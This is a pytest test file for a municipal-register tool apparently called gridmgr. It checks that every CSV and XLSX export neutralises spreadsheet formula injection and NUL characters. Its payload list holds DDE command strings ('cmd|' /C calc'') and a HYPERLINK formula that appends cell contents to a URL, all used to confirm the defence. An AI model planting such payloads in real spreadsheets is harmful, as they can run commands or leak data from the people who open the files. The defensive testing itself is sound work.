"""Formula injection: every spreadsheet gridmgr writes (XLSX and CSV of registers, cases,
workload, stats, the category table and a field package's tasks.xlsx) hands a text cell that a
spreadsheet would run (= + - @, tab, CR — OWASP) over with a leading apostrophe, while numbers
stay numbers; a NUL typed into a name does not break an XLSX.  The payloads come in through the
real importers, the files go out through the CLI (or the export task) and are read back with
openpyxl and the csv module."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from fieldpack_helpers import OFFICER
from shapely.geometry import Point

from gridmgr.cases.importer import import_cases
from gridmgr.cli import main
from gridmgr.fieldwork.export import export_fieldpack
from gridmgr.fieldwork.scope import resolve_scope
from gridmgr.progress import run
from gridmgr.project import open_project
from gridmgr.registers.enterprises import import_enterprises
from gridmgr.registers.officers import import_officers
from gridmgr.text import sheet_cell, sheet_frame

FORMULAS = ['=HYPERLINK("http://127.0.0.1/x?"&A1,"点我")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1"]
NUL_NAME = "佛山\x00空字符有限公司"
RUNS = ("=", "+", "-", "@", "\t", "\r")


def stored(text: str) -> str:
    """What the importers keep of a cell: stray and doubled spaces, tabs and CRs go (so a
    leading tab or CR reaches the exports only through other paths: test_sheet_cell_rules)."""
    return " ".join(text.split())


STORED = [stored(f) for f in FORMULAS]


def test_sheet_cell_rules():
    assert sheet_cell("=1+1") == "'=1+1"
    assert sheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert sheet_cell("\t=1") == "'\t=1"
    assert sheet_cell("-3") == "-3" and sheet_cell("+8613800000000") == "+8613800000000"
    assert sheet_cell("-1.5e3") == "-1.5e3"
    assert sheet_cell("-1+1") == "'-1+1"
    assert sheet_cell(12.5) == 12.5 and sheet_cell(-7) == -7 and sheet_cell(None) is None
    assert sheet_cell("企业\x00名\x1f称") == "企业名称"
    assert sheet_cell("祖庙路 1 号") == "祖庙路 1 号"
    import pandas as pd

    df = pd.DataFrame({"=名": ["=x", "ok"], "n": [-1, 2]})
    out = sheet_frame(df)
    assert list(out.columns) == ["'=名", "n"] and out["n"].tolist() == [-1, 2]
    assert out["'=名"].tolist() == ["'=x", "ok"] and df["=名"].tolist() == ["=x", "ok"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, demo_file) -> dict:
    tmp = tmp_path_factory.mktemp("formulas")
    project = tmp / "p.gpkg"
    project.write_bytes(demo_file.read_bytes())
    with open_project(project) as store:
        scope, _ = resolve_scope(store, officer=OFFICER, area=None)
        cells = store.areas("cell").to_crs("EPSG:4326")
        cell = cells.loc[cells["code"] == scope.cells[0], "geometry"].iloc[0]
        c = cell.representative_point()
        pts = [Point(c.x + 0.00001 * i, c.y) for i in range(2 * len(FORMULAS) + 1)]
        assert all(cell.contains(p) for p in pts)
        # the officer responsible for those cells renamed to a formula
        off = tmp / "人员.csv"
        with off.open("w", encoding="utf-8-sig", newline="") as fh:
            csv.writer(fh).writerows([["姓名", "工号", "手机", "角色", "所属单位"],
                                      [FORMULAS[0], OFFICER, "13800000000", "执法人员",
                                       "@SUM(1)"]])
        rep = run(import_officers(store, off))
        assert not rep.refused, rep.findings
        ents = tmp / "企业.csv"
        with ents.open("w", encoding="utf-8-sig", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(["企业名称", "监管类别", "检查频次", "联系人", "联系电话", "地址", "经度",
                        "纬度", "最近检查日期"])
            for i, f in enumerate([*FORMULAS, NUL_NAME]):
                w.writerow([f, "市控", "每季度1次", f"{f}", "+8613800000000", f"-{i}{f}",
                            f"{pts[i].x:.7f}", f"{pts[i].y:.7f}", "2026-01-05"])
        rep = run(import_enterprises(store, ents))
        assert rep.accepted == len(FORMULAS) + 1, rep.findings
        case_file = tmp / "工单.csv"
        with case_file.open("w", encoding="utf-8-sig", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(["工单编号", "来源", "问题类型", "诉求内容", "事发地址", "经度", "纬度",
                        "来电时间", "工单状态", "派单时间", "办结时间", "办理时限"])
            for i, f in enumerate(FORMULAS):
                p = pts[len(FORMULAS) + 1 + i]
                w.writerow([f"RX9{i}", "12345", "道路遗撒", f, f"@{i}{f}", f"{p.x:.7f}",
                            f"{p.y:.7f}", "2026-02-10 09:00", "处理中", "", "", ""])
        rep = run(import_cases(store, case_file))
        assert rep.accepted == len(FORMULAS), rep.findings
        run(export_fieldpack(store, out=tmp / "pack", officer=OFFICER))
    return {"project": project, "tmp": tmp, "pack": tmp / "pack"}


def xlsx_cells(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def csv_values(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [v for row in csv.reader(fh) for v in row]


def assert_neutral(texts: list[str], expected: list[str]) -> None:
    """No text runs; each expected payload is there, behind an apostrophe."""
    for t in texts:
        assert not t.startswith(RUNS) or sheet_cell(t) == t, repr(t)
    for e in expected:
        assert "'" + e in texts, (e, [t for t in texts if t[1:2] in "=+-@\t\r"][:20])


def assert_xlsx(path: Path, expected: list[str]) -> list:
    cells = xlsx_cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
    assert_neutral([c.value for c in cells if isinstance(c.value, str)], expected)
    assert not any("\x00" in c.value for c in cells if isinstance(c.value, str))
    return cells


def cli(*argv: str) -> None:
    assert main([*argv]) == 0


def test_register_export_csv_and_xlsx(hostile):
    out = hostile["tmp"]
    cli("export", str(hostile["project"]), "enterprises", "--format", "csv",
        "--out", str(out / "e.csv"))
    assert_neutral(csv_values(out / "e.csv"),
                   STORED + [stored(f"-{i}{f}") for i, f in enumerate(FORMULAS)])
    cli("export", str(hostile["project"]), "enterprises", "--format", "xlsx",
        "--out", str(out / "e.xlsx"))
    cells = assert_xlsx(out / "e.xlsx", STORED)
    names = [c.value for c in cells if isinstance(c.value, str)]
    assert "佛山空字符有限公司" in names  # the NUL dropped, the name kept
    assert "+8613800000000" in names  # a phone number is not a formula
    ws = openpyxl.load_workbook(out / "e.xlsx").worksheets[0]
    header = [c.value for c in ws[1]]
    lon = header.index("中心经度")
    assert all(isinstance(r[lon].value, float) for r in ws.iter_rows(min_row=2))
    cli("export", str(hostile["project"]), "officers", "--format", "xlsx",
        "--out", str(out / "o.xlsx"))
    assert_xlsx(out / "o.xlsx", [FORMULAS[0], "@SUM(1)"])


def test_cases_list_csv_and_export(hostile):
    out = hostile["tmp"]
    cli("cases", "list", str(hostile["project"]), "--format", "csv", "--out",
        str(out / "c.csv"))
    assert_neutral(csv_values(out / "c.csv"), [stored(f"@{i}{f}") for i, f in enumerate(FORMULAS)])
    cli("export", str(hostile["project"]), "cases", "--format", "xlsx", "--out",
        str(out / "c.xlsx"))
    assert_xlsx(out / "c.xlsx", STORED)


def test_workload_csv_and_xlsx(hostile):
    out = hostile["tmp"]
    cli("workload", str(hostile["project"]), "--format", "csv", "--out", str(out / "w.csv"))
    assert_neutral(csv_values(out / "w.csv"), [FORMULAS[0]])
    cli("workload", str(hostile["project"]), "--format", "xlsx", "--out", str(out / "w.xlsx"))
    cells = assert_xlsx(out / "w.xlsx", [FORMULAS[0]])
    assert any(isinstance(c.value, int) and c.value > 0 for c in cells)  # counts are numbers


def test_stats_csv_xlsx_and_report(hostile):
    out = hostile["tmp"]
    p = str(hostile["project"])
    cli("stats", p, "--by", "officer", "--from", "2026-01-01", "--format", "csv", "--out",
        str(out / "s.csv"))
    assert_neutral(csv_values(out / "s.csv"), [FORMULAS[0]])
    cli("stats", p, "--by", "officer", "--from", "2026-01-01", "--format", "xlsx", "--out",
        str(out / "s.xlsx"))
    cells = assert_xlsx(out / "s.xlsx", [FORMULAS[0]])
    assert any(isinstance(c.value, int) and c.value >= len(FORMULAS) for c in cells)
    cli("stats", p, "--report", "monthly", "--period", "2026-02", "--out", str(out / "r.xlsx"))
    assert_xlsx(out / "r.xlsx", [FORMULAS[0]])


def test_categories_export(hostile, tmp_path):
    p = str(hostile["project"])
    cli("categories", "export", p, str(tmp_path / "cat.xlsx"))
    wb = openpyxl.load_workbook(tmp_path / "cat.xlsx")
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    col = header.index("小类名称") + 1 if "小类名称" in header else 3
    ws.cell(row=2, column=col).value = "@SUM(9)"
    ws.cell(row=2, column=col).data_type = "s"
    wb.save(tmp_path / "cat2.xlsx")
    cli("categories", "import", p, str(tmp_path / "cat2.xlsx"))
    cli("categories", "export", p, str(tmp_path / "cat3.xlsx"))
    assert_xlsx(tmp_path / "cat3.xlsx", ["@SUM(9)"])


def test_fieldpack_tasks_xlsx(hostile):
    cells = assert_xlsx(hostile["pack"] / "tasks.xlsx", STORED)
    assert "佛山空字符有限公司" in [c.value for c in cells]
